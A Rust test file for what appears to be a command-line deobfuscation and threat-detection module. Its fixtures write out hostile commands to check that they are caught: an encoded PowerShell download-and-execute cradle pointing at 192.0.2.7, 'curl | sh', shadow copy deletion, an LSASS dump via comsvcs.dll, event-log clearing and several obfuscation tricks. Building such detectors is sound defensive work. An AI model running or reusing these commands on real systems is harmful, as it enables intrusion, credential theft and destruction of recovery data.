use proptest::prelude::*;

use super::*;

fn kinds(line: &str) -> Vec<SignKind> {
    decode(line).signs.iter().map(|sign| sign.kind).collect()
}

fn encoded(text: &str) -> String {
    let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64_of(&bytes)
}

fn base64_of(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0_u32, |bits, byte| bits << 8 | u32::from(*byte)) << (8 * (3 - chunk.len()));
        for place in 0..4 {
            let digit = DIGITS[(bits >> (18 - 6 * place) & 63) as usize];
            out.push(if place <= chunk.len() { char::from(digit) } else { '=' });
        }
    }
    out
}

#[test]
fn an_encoded_command_is_read_whatever_its_abbreviation() {
    let payload = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')";
    for flag in ["-e", "-ec", "-EN", "-enc", "/enc", "-EncodedCommand", "\u{2013}enco"] {
        let decoded =
            decode(&format!("C:\\Windows\\powershell.exe -nop -w hidden -ep bypass {flag} {}", encoded(payload)));
        assert!(decoded.text.for_matching().ends_with(payload), "{flag}: {decoded:?}");
        assert_eq!(decoded.layers[0].how, How::EncodedCommand);
        for kind in
            [SignKind::EncodedCommand, SignKind::HiddenWindow, SignKind::PolicyBypass, SignKind::DownloadAndExecute]
        {
            assert!(decoded.signs.iter().any(|s| s.kind == kind), "{flag}: {kind:?}");
        }
    }
}

#[test]
fn layers_within_layers_are_taken_off_one_by_one() {
    let inner = format!("powershell -enc {}", encoded("vssadmin delete shadows /all /quiet"));
    let decoded = decode(&format!("p^ow^ersh^ell -e {}", encoded(&inner)));
    let ways: Vec<How> = decoded.layers.iter().map(|layer| layer.how).collect();
    assert_eq!(ways, [How::Carets, How::EncodedCommand, How::EncodedCommand]);
    let sign = decoded.signs.iter().find(|s| s.kind == SignKind::ShadowCopyDeletion).unwrap();
    assert_eq!((sign.on.for_matching(), sign.layer), ("vssadmin delete shadows", 3));
}

#[test]
fn letters_that_the_command_prompt_drops_are_dropped() {
    for (line, plain) in [
        ("c^m^d /c who^ami", "cmd /c whoami"),
        ("w\"\"hoami /all", "whoami /all"),
        ("w'h'o'am'i", "whoami"),
        ("%COMSPEC:~-7,1%%COMSPEC:~-6,1%d /c x", "cmd /c x"),
        ("set a=who& set b=ami& call %a%%b%", "set a=who& set b=ami& call whoami"),
        ("n`et us`er", "net user"),
    ] {
        assert_eq!(decode(line).text.for_matching(), plain);
    }
    for honest in
        ["dir ^| findstr x", "echo %TEMP%", "git show HEAD^1", "echo \"a b\" 'c'", "Write-Host \"a`nb\"", "cp %20 x"]
    {
        assert_eq!(decode(honest).layers, [], "{honest}");
    }
}

#[test]
fn text_put_together_at_run_time_is_put_together() {
    for (line, plain) in [
        ("&('i'+'e'+'x') $a", "&('iex') $a"),
        ("\"{1}{0}\" -f 'ami','who'", "'whoami'"),
        ("'wXoami'.Replace('X','h')", "'whoami'"),
        ("'wXoami' -replace 'X','h'", "'whoami'"),
        ("[char]105+[char]0x65+[char](120)", "'iex'"),
    ] {
        assert_eq!(decode(line).text.for_matching(), plain);
    }
}

#[test]
fn base64_is_decoded_where_it_is_text_and_named_where_it_is_not() {
    let shell = decode(&format!("echo {} | base64 -d | bash", base64_of(b"curl http://192.0.2.7/x | sh")));
    assert!(shell.text.for_matching().contains("curl http://192.0.2.7/x | sh"));
    let binary = decode(&format!("[Convert]::FromBase64String('{}')", base64_of(&[0x90; 200])));
    assert_eq!(binary.unread, [Unread::Binary(200)]);
}

#[test]
fn compressed_base64_is_unpacked_but_not_beyond_its_bound_sec_38() {
    use std::io::Write;
    let packed = |text: &str| {
        let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        gzip.write_all(text.as_bytes()).unwrap();
        base64_of(&gzip.finish().unwrap())
    };
    let decoded = decode(&format!("FromBase64String('{}')", packed("wevtutil cl Security; whoami")));
    assert_eq!(decoded.layers[0].how, How::CompressedBase64);
    assert!(decoded.signs.iter().any(|s| s.kind == SignKind::LogClear));
    let bomb = decode(&format!("FromBase64String('{}')", packed(&"a ".repeat(4_000_000))));
    assert!(bomb.text.for_matching().len() <= crate::untrusted::MAX_BYTES);
}

#[test]
fn signs_name_what_they_rest_on_and_ordinary_lines_have_none() {
    assert!(
        kinds("rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 x.dmp full").contains(&SignKind::LsassDump)
    );
    assert!(kinds("bcdedit /set {default} recoveryenabled no").contains(&SignKind::RecoveryOff));
    assert!(kinds("curl -s http://192.0.2.7/x | sh").contains(&SignKind::DownloadAndExecute));
    for ordinary in ["git commit -m fix", "notepad.exe C:\\report.txt", "docker ps -a", "tar -xzf a.tar.gz"] {
        assert_eq!(kinds(ordinary), [], "{ordinary}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig { failure_persistence: None, cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn no_text_is_too_strange_and_every_sign_rests_on_text_that_is_there(
        pieces in proptest::collection::vec(
            prop_oneof![
                Just("powershell -enc ".to_owned()), Just("'a'+'b'".to_owned()), Just("[char]".to_owned()),
                Just("%COMSPEC:~".to_owned()), Just("%41%42%43".to_owned()), Just("\\x41\\x42\\x43\\x44".to_owned()),
                Just("-f ".to_owned()), Just("set a=".to_owned()), Just("base64 ".to_owned()), Just("あ^い".to_owned()),
                Just("vssadmin delete shadows".to_owned()), Just("('".to_owned()), Just("\" \"".to_owned()),
                "\\PC{0,40}", "[A-Za-z0-9+/=]{0,60}",
            ],
            0..24,
        ),
    ) {
        let line = pieces.concat();
        let decoded = decode(&line);
        prop_assert!(decoded.layers.len() <= MAX_LAYERS);
        for sign in &decoded.signs {
            prop_assert!(!sign.on.for_matching().is_empty());
            let layer = if sign.layer == 0 { line.as_str() } else { decoded.layers[sign.layer - 1].text.for_matching() };
            prop_assert!(layer.len() > 4000 || layer.contains(sign.on.for_matching()), "{sign:?}");
        }
    }
}
